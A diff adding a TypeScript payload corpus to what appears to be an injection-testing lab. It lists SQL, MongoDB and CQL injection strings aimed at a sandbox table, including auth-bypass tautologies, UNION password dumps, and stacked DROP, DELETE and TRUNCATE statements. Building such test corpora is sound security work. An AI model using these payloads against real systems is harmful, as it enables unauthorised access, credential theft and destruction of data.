@@ -0,0 +1,147 @@
+import { InjectionPayload } from './types';
+
+/**
+ * Injection payloads the lab sends to every engine. Login payloads carry a password; lookups only a username.
+ * Stacked and UNION payloads name the sandbox table, as an attacker who guessed it would.
+ */
+export const PAYLOAD_CORPUS: InjectionPayload[] = [
+  // Tautologies: a condition that is always true widens the WHERE clause
+  {
+    id: 'tautology-or-lookup',
+    category: 'tautology',
+    attack: 'data-leak',
+    description: "' OR '1'='1 ile tüm kullanıcıları okuma",
+    input: { username: "' OR '1'='1" },
+  },
+  {
+    id: 'tautology-or-login',
+    category: 'tautology',
+    attack: 'auth-bypass',
+    description: 'Parola alanında her zaman doğru koşul',
+    input: { username: 'admin', password: "' OR '1'='1" },
+  },
+
+  // Stacked queries: a second statement after the closing quote
+  {
+    id: 'stacked-drop',
+    category: 'stacked',
+    attack: 'destructive',
+    description: 'Ardışık sorgu ile tabloyu silme',
+    input: { username: "x'; DROP TABLE pentest_users; --" },
+  },
+  {
+    id: 'stacked-delete',
+    category: 'stacked',
+    attack: 'destructive',
+    description: 'Ardışık sorgu ile tüm satırları silme',
+    input: { username: "x'; DELETE FROM pentest_users; --" },
+  },
+  {
+    id: 'stacked-update',
+    category: 'stacked',
+    attack: 'destructive',
+    description: 'Ardışık sorgu ile tüm parolaları değiştirme',
+    input: { username: "x'; UPDATE pentest_users SET password = 'pwned'; --" },
+  },
+
+  // Comment truncation: the rest of the statement, including the password check, becomes a comment
+  {
+    id: 'comment-dash',
+    category: 'comment',
+    attack: 'auth-bypass',
+    description: '-- yorumu ile parola kontrolünü atlama',
+    input: { username: "admin' --", password: 'yanlis-parola' },
+  },
+  {
+    id: 'comment-block',
+    category: 'comment',
+    attack: 'auth-bypass',
+    description: '/* */ blok yorumu parola kontrolünü kapsıyor',
+    input: { username: "admin'/*", password: '*/--' },
+  },
+
+  // UNION: rows from a second SELECT are appended to the result
+  {
+    id: 'union-forged-login',
+    category: 'union',
+    attack: 'auth-bypass',
+    description: 'UNION ile sahte kullanıcı satırı üretme',
+    input: { username: "' UNION SELECT 1, 'admin' --", password: 'yanlis-parola' },
+  },
+  {
+    id: 'union-password-dump',
+    category: 'union',
+    attack: 'data-leak',
+    description: 'UNION ile parolaları sır sütununda okuma',
+    input: { username: "' UNION SELECT username, password FROM pentest_users --" },
+  },
+
+  // Operator injection: JSON-decoded objects or JavaScript reach MongoDB as query operators
+  {
+    id: 'operator-ne',
+    category: 'operator',
+    attack: 'data-leak',
+    description: '$ne: null ile tüm belgeleri eşleme',
+    input: { username: '{"$ne": null}' },
+  },
+  {
+    id: 'operator-gt',
+    category: 'operator',
+    attack: 'data-leak',
+    description: '$gt: "" ile tüm belgeleri eşleme',
+    input: { username: '{"$gt": ""}' },
+  },
+  {
+    id: 'operator-regex',
+    category: 'operator',
+    attack: 'data-leak',
+    description: '$regex ile "a" ile başlayan kullanıcıları okuma',
+    input: { username: '{"$regex": "^a"}' },
+  },
+  {
+    id: 'operator-where-or',
+    category: 'operator',
+    attack: 'auth-bypass',
+    description: "$where JavaScript'inde || ile parola kontrolünü atlama",
+    input: { username: "admin' || '1'=='1", password: 'yanlis-parola' },
+  },
+
+  // Type confusion: an array or object where the application expects a string
+  {
+    id: 'type-in-object',
+    category: 'type-confusion',
+    attack: 'data-leak',
+    description: 'Dize yerine $in listesi içeren nesne',
+    input: { username: '{"$in": ["admin", "alice", "bob"]}' },
+  },
+  {
+    id: 'type-array',
+    category: 'type-confusion',
+    attack: 'data-leak',
+    description: 'Dize yerine dizi',
+    input: { username: '["admin", "alice", "bob"]' },
+  },
+
+  // CQL: no OR, UNION or stacked statements, but comments and extra restrictions still inject
+  {
+    id: 'cql-range-bypass',
+    category: 'cql',
+    attack: 'auth-bypass',
+    description: 'OR yerine aralık koşulu ve ALLOW FILTERING ile parola kontrolünü atlama',
+    input: { username: "admin' AND password > '' ALLOW FILTERING --", password: 'yanlis-parola' },
+  },
+  {
+    id: 'cql-line-comment',
+    category: 'cql',
+    attack: 'auth-bypass',
+    description: '// yorumu ile parola kontrolünü atlama (CQL ve JavaScript)',
+    input: { username: "admin' //", password: 'yanlis-parola' },
+  },
+  {
+    id: 'cql-truncate',
+    category: 'cql',
+    attack: 'destructive',
+    description: 'Ardışık TRUNCATE ile tabloyu boşaltma',
+    input: { username: "x'; TRUNCATE pentest_users; --" },
+  },
+];